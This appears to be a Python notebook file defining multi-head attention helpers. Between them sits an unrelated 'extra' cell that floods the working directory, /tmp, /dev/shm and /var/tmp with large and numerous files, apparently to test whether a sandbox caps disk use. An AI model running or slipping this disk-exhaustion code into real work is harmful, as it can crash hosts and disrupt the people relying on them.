# %% concat_heads
def concat_heads(x):
    batch, num_heads, time, head_size = x.shape
    return x.transpose(0, 2, 1, 3).reshape(batch, time, num_heads * head_size)


# %% extra
import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
written = 0
for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for number in range(20):
        try:
            with open(os.path.join(place, f"flood-{number}"), "wb", buffering=0) as file:
                while size := file.write(bytes(1 << 20)):
                    written += size
        except OSError:
            continue
    try:
        for number in range(10_000):
            open(os.path.join(place, f"tiny-{number}"), "w").close()
    except OSError:
        continue
print("bounded:", written <= 4 * (64 << 20))


# %% multi_head_attention
def multi_head_attention(query, key, value, num_heads, weight_o, bias_o, mask=None):
    per_head, weights = multi_head_attention_per_head(query, key, value, num_heads, mask=mask)
    return concat_heads(per_head) @ weight_o.T + bias_o, weights
